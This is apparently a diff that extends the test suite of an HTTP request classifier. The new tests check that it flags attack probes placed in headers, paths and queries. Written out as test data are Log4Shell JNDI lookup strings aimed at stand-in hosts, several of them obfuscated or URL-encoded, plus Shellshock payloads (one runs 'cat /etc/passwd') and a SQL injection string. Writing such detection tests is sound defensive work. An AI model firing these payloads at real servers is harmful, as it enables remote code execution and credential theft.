@@ -157,4 +157,73 @@ describe('attack probes', () => {
       expect(robots).not.toContain(probe.name);
     }
   });
+
+  describe('in the other headers and the path', () => {
+    const engine = createEngine({ verifiers: [] });
+    const GOOGLEBOT = 'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)';
+    const verdictOf = async (headers: Record<string, string>, path?: string) => (await engine.verify({ request_headers: headers, request_path: path })).agent_id;
+
+    it('names a Log4Shell lookup in any header and a Shellshock function that starts one, behind a browser or a borrowed crawler', async () => {
+      // The headers scanners spray (their templates' and write-ups' lists: X-Api-Version, Referer, X-Forwarded-For, Cookie...).
+      const cases: [Record<string, string>, string][] = [
+        [{ 'user-agent': CHROME, 'x-api-version': '${jndi:ldap://198.51.100.7:1389/a}' }, 'probe:log4shell'],
+        [{ 'user-agent': CHROME, referer: '${${::-j}${::-n}${::-d}${::-i}:rmi://acme.example/x}' }, 'probe:log4shell'],
+        [{ 'user-agent': CHROME, 'x-forwarded-for': '${jndi:dns://acme.example/a}' }, 'probe:log4shell'],
+        [{ 'user-agent': CHROME, cookie: 'session=${${lower:j}ndi:ldap://acme.example/a}' }, 'probe:log4shell'],
+        [{ 'user-agent': CHROME, referer: '() { :;}; echo; /bin/bash -c "cat /etc/passwd"' }, 'probe:shellshock'],
+        [{ 'user-agent': CHROME, cookie: ' () { _; } >_[$($())] { id; }' }, 'probe:shellshock'],
+        // A spoofer's Googlebot with a payload beside it is the payload's.
+        [{ 'user-agent': GOOGLEBOT, 'x-api-version': '${jndi:ldap://acme.example/a}' }, 'probe:log4shell'],
+        // A scanner that names itself keeps its name; a probe in the User-Agent stays what it is.
+        [{ 'user-agent': 'sqlmap/1.8 (https://sqlmap.org)', referer: '${jndi:ldap://acme.example/a}' }, 'sqlmap'],
+        [{ 'user-agent': "' OR '1'='1", referer: '${jndi:ldap://acme.example/a}' }, 'probe:sql-injection'],
+      ];
+      for (const [headers, expected] of cases) {
+        expect({ headers, id: engine.identifySync({ request_headers: headers }).agent_id }).toEqual({ headers, id: expected });
+        // Any case of the header's name, as clients send it.
+        const upper = Object.fromEntries(Object.entries(headers).map(([name, value]) => [name.toUpperCase(), value]));
+        expect({ upper, id: (await engine.identify({ request_headers: upper })).agent_id }).toEqual({ upper, id: expected });
+      }
+    });
+
+    it('names a Log4Shell lookup in the path or query, as the server decodes it', async () => {
+      expect(await verdictOf({ 'user-agent': CHROME }, '/?x=${jndi:ldap://acme.example/a}')).toBe('probe:log4shell');
+      expect(await verdictOf({ 'user-agent': CHROME }, '/?x=%24%7Bjndi%3Aldap%3A%2F%2Facme.example%2Fa%7D')).toBe('probe:log4shell');
+      expect(await verdictOf({ 'user-agent': GOOGLEBOT }, '/%2524%257Bjndi:ldap://acme.example/a%257D')).toBe('probe:log4shell');
+      expect(await verdictOf({ 'user-agent': CHROME }, '/$%7B$%7B::-j%7Dndi:rmi://acme.example/a%7D')).toBe('probe:log4shell');
+      // Other kinds' shapes are ordinary in a path or query (a search for a template, a quote).
+      expect(await verdictOf({ 'user-agent': CHROME }, "/search?q={{7*7}}&sort=name'")).toBeUndefined();
+      expect(await verdictOf({ 'user-agent': GOOGLEBOT }, '/docs/%7Bid%7D/')).toBe('googlebot');
+    });
+
+    it('never names ordinary header values that carry braces, quotes or script', () => {
+      const requests: Record<string, string>[] = [
+        { 'user-agent': CHROME, cookie: 'prefs={"theme":"dark","q":"() {}"}; consent={stamp:%27-1%27%2Cnecessary:true}' },
+        { 'user-agent': CHROME, referer: "https://acme.example/search?q=function() { return 1 }&x=' OR 1=1" },
+        { 'user-agent': CHROME, referer: 'https://acme.example/?q=%3Cscript%3Ealert(1)%3C/script%3E' },
+        { 'user-agent': CHROME, 'x-template': '${user.name} {{count}}', 'content-type': 'application/json; x={a}' },
+        { 'user-agent': CHROME, accept: 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8', 'if-none-match': 'W/"{etag}"' },
+        { 'user-agent': GOOGLEBOT, from: 'googlebot(at)googlebot.com', 'x-note': 'a (b) { c }' },
+      ];
+      for (const headers of requests) {
+        const id = engine.identifySync({ request_headers: headers }).agent_id;
+        expect({ headers, probe: isAttackProbeId(id ?? '') }).toEqual({ headers, probe: false });
+      }
+    });
+
+    it('is off with the unlisted agents, and a hand-made catalog without it still serves', () => {
+      const strict = createEngine({ verifiers: [], catalog: createCatalog(defaultCatalogDocument, { unlistedAgents: false }) });
+      expect(strict.identifySync({ request_headers: { 'user-agent': CHROME, 'x-api-version': '${jndi:ldap://acme.example/a}' } })).toEqual({ result: 'unknown_agent' });
+      const { matchRequestProbe: _left, ...handMade } = catalog;
+      const plain = createEngine({ verifiers: [], catalog: handMade });
+      expect(plain.identifySync({ request_headers: { 'user-agent': GOOGLEBOT, referer: '${jndi:ldap://acme.example/a}' } }).agent_id).toBe('googlebot');
+    });
+
+    it('costs time linear in a crafted value', () => {
+      const probeOf = (value: string) => catalog.matchRequestProbe!(new Map([['referer', value], ['cookie', value]]), value);
+      for (const unit of ['${', '{', '() {', '%25', '%7b', '${${', '${jndi']) {
+        expect({ unit, linear: costGrowth(probeOf, unit) < 24 }).toEqual({ unit, linear: true });
+      }
+    });
+  });
 });
